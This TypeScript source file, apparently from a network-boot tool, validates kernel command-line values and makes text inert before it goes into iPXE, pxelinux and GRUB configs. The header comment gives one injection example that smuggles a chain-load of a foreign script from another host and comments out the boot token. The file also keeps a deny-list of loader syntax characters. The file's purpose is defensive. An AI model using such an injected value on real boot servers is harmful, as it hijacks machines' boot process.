/**
 * What a kernel command-line value may contain, and how other text is made inert before it is
 * written into a boot script.
 *
 * The same words are written into iPXE scripts, pxelinux configs and (later) GRUB configs, and
 * each of those reads some characters as syntax instead of passing them on:
 *
 * - iPXE (src/image/script.c, src/core/exec.c, src/core/settings.c): a script is cut into lines
 *   at "\n" (a trailing "\r" is dropped, a line ending in "\" is joined with the next), a line
 *   into words at blanks, with no quoting at all. A word that is exactly ";", "||" or "&&" ends
 *   the command and starts another; a word starting with "#" drops the rest of the line; "${NAME}"
 *   anywhere in a word is replaced by that setting's value, again and again until none is left.
 *   So `quiet ; chain http://elsewhere/x.ipxe ; #` runs a foreign script and comments out the
 *   boot token and BOOTIF that follow it on the kernel line.
 * - pxelinux (com32/elflink/ldlinux/readconfig.c): one directive a line, cut at the first "\r";
 *   a line is read 4095 bytes at a time, so the rest of a longer one is read as a directive of
 *   its own. APPEND takes the rest of its line verbatim.
 * - GRUB (manual, "Shell-like scripting"): words end at blanks and at { } | & $ ; < >, a word
 *   starting with "#" begins a comment, and \ ' " quote. The kernel reads "…" as quoting too.
 *
 * A value of printable ASCII without any of those characters means the same to all of them: a
 * list of words separated by spaces, passed to the kernel as written. Real arguments fit
 * (console=ttyS0,115200n8, ip=10.0.0.5::10.0.0.1:255.255.255.0:n1:eth0:off, systemd.unit=…,
 * nfsroot=10.0.0.1:/srv/x,vers=4, modprobe.blacklist=a,b, rd.break=pre-mount, isolcpus=1-3).
 * A GRUB renderer can write such words bare; it must still quote `*`, `?` and `[…]`, which GRUB
 * may expand as file-name patterns when its regexp module is loaded.
 */

/** Characters some loader reads as syntax, and what it does with them (for the error). */
const SYNTAX_CHARACTERS: ReadonlyMap<string, string> = new Map([
  [';', 'iPXE and GRUB start another command at it'],
  ['|', 'iPXE ("||") and GRUB start another command at it'],
  ['&', 'iPXE ("&&") and GRUB start another command at it'],
  ['#', 'iPXE and GRUB ignore the rest of the line from it, the boot token and BOOTIF included'],
  ['$', 'iPXE and GRUB replace ${…} and $NAME with a setting or variable'],
  ['{', 'iPXE settings (${…}) and GRUB blocks are written with it'],
  ['}', 'iPXE settings (${…}) and GRUB blocks are written with it'],
  ['\\', 'GRUB reads it as an escape, and at the end of an iPXE line it joins the next line'],
  ['"', 'GRUB and the kernel read it as quoting while iPXE and pxelinux pass it on, so they disagree on the words'],
  ["'", 'GRUB reads it as quoting while iPXE, pxelinux and the kernel pass it on, so they disagree on the words'],
  ['`', 'shells read it as command substitution'],
  ['<', 'GRUB ends a word at it'],
  ['>', 'GRUB ends a word at it'],
]);

/** Longest `cmdline` a profile or node may set: Diskless adds root=, the token and BOOTIF. */
export const CMDLINE_VALUE_MAX = 1024;

/**
 * Longest kernel command line, terminating NUL excluded: COMMAND_LINE_SIZE is 2048 on x86 and
 * arm64, and the kernel silently cuts what is longer, which would cut off the token and BOOTIF
 * written last.
 */
export const KERNEL_CMDLINE_MAX = 2047;

const ALLOWED_PUNCTUATION = '! % ( ) * + , - . / : = ? @ [ ] ^ _ ~';

const CONTROL_NAMES: Readonly<Record<number, string>> = { 0: 'NUL', 9: 'tab', 10: 'line feed', 13: 'carriage return', 127: 'DEL' };

function codePoint(ch: string): string {
  return `U+${ch.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}`;
}

/**
 * Why `text` cannot be written as kernel arguments (words separated by spaces), or undefined
 * when it can. The answer names the character, its code point and its position (1-based), and
 * reads after a key: "cmdline: may not contain …".
 */
export function kernelArgsProblem(text: string, maxLength = CMDLINE_VALUE_MAX): string | undefined {
  let position = 0;
  for (const ch of text) {
    position++;
    const code = ch.codePointAt(0)!;
    if (code < 0x20 || code === 0x7f) {
      const name = CONTROL_NAMES[code] ?? 'control character';
      return `must be one line of printable ASCII, arguments separated by spaces: ${name} (${codePoint(ch)}) at character ${position}`;
    }
    if (code > 0x7e) return `must be printable ASCII: ${JSON.stringify(ch)} (${codePoint(ch)}) at character ${position} is not`;
    const why = SYNTAX_CHARACTERS.get(ch);
    if (why !== undefined) {
      return `may not contain ${JSON.stringify(ch)} (${codePoint(ch)}, character ${position}): ${why}. Kernel arguments may use letters, digits, spaces and ${ALLOWED_PUNCTUATION}`;
    }
  }
  if (text.length > maxLength) return `is ${text.length} characters long; at most ${maxLength} fit (the kernel takes ${KERNEL_CMDLINE_MAX + 1} bytes in all, Diskless's own arguments included)`;
  return undefined;
}

/** Like kernelArgsProblem, for one word written on a loader's line: a path, a URL, a name. */
export function bootWordProblem(word: string): string | undefined {
  if (word === '') return 'is empty';
  if (word.includes(' ')) return `may not contain a space (character ${word.indexOf(' ') + 1})`;
  return kernelArgsProblem(word, Number.POSITIVE_INFINITY);
}

/**
 * Free text (a host name, a profile name, an error message) made safe to print with iPXE's
 * `echo` or to leave in a comment of any of the loaders' files: one line of printable ASCII in
 * which every character a loader reads as syntax is replaced by "?". This is the second line of
 * defence; the values it is used on are checked when the config is read.
 */
export function inertText(text: string): string {
  let out = '';
  for (const ch of text) {
    const code = ch.codePointAt(0)!;
    if (code < 0x20 || code === 0x7f) out += ' ';
    else if (code > 0x7e || SYNTAX_CHARACTERS.has(ch)) out += '?';
    else out += ch;
  }
  return out.replace(/ {2,}/g, ' ').trim();
}
